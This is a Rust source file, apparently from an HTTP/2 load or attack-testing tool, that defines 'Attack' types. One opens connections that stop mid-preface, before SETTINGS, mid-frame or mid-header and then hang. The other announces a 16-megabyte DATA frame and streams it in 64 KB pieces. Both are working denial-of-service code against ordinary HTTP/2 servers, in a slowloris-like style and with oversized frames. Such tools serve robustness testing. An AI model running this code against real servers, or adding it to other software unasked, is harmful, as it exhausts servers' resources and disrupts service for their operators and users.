//! Connections that do not get beyond their first words.

use std::io;

use futures_util::future::LocalBoxFuture;

use super::{hello, stream_id};
use crate::attack::{Attack, End, Line, Target};
use crate::frames::{END_STREAM, Frame, PREFACE, hpack::Block, kind};

/// Where an HTTP/2 connection stops.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Stop {
    /// In the middle of the preface.
    InPreface,
    /// Behind the preface, without SETTINGS.
    BeforeSettings,
    /// Behind SETTINGS.
    BeforeRequest,
    /// In the middle of a frame's header.
    InFrame,
    /// In a head, where a CONTINUATION must come.
    InHead,
}

/// Half-open HTTP/2: a connection that says its first words and then no more.
#[derive(Debug)]
pub struct HalfOpen(pub Stop);

impl Attack for HalfOpen {
    fn name(&self) -> &'static str {
        match self.0 {
            Stop::InPreface => "half a preface",
            Stop::BeforeSettings => "preface alone",
            Stop::BeforeRequest => "HTTP/2 without a request",
            Stop::InFrame => "half a frame",
            Stop::InHead => "half a head",
        }
    }

    fn run<'a>(
        &'a self,
        line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let mut line = line.hearing_http2();
            let bytes = match self.0 {
                Stop::InPreface => PREFACE.get(..10).unwrap_or(PREFACE).to_vec(),
                Stop::BeforeSettings => PREFACE.to_vec(),
                Stop::BeforeRequest => hello(&[]),
                Stop::InFrame => [hello(&[]), vec![0, 0, 4]].concat(),
                Stop::InHead => {
                    let head = Block::get(&target.host, "/");
                    let frame = Frame::headers(stream_id(0), END_STREAM, head);
                    [hello(&[]), frame.bytes()].concat()
                }
            };
            line.send_reading(&bytes).await?;
            line.seen.count(1);
            line.read_until_end().await
        })
    }
}

/// Huge frame: one that is announced to be as long as the format can say, sixteen megabytes, and is sent.
#[derive(Debug)]
pub struct HugeFrame;

impl Attack for HugeFrame {
    fn name(&self) -> &'static str {
        "huge frame"
    }

    fn run<'a>(&'a self, line: Line<'a>, _: &'a Target) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let mut line = line.hearing_http2();
            let frame = Frame::new(kind::DATA, 0, stream_id(0), []).bytes_that_say(0x00ff_ffff);
            line.send_reading(&[hello(&[]), frame].concat()).await?;
            line.seen.count(1);
            let piece = vec![0; 64 * 1024];
            for _ in 0..256 {
                line.send_reading(&piece).await?;
            }
            line.read_until_end().await
        })
    }
}
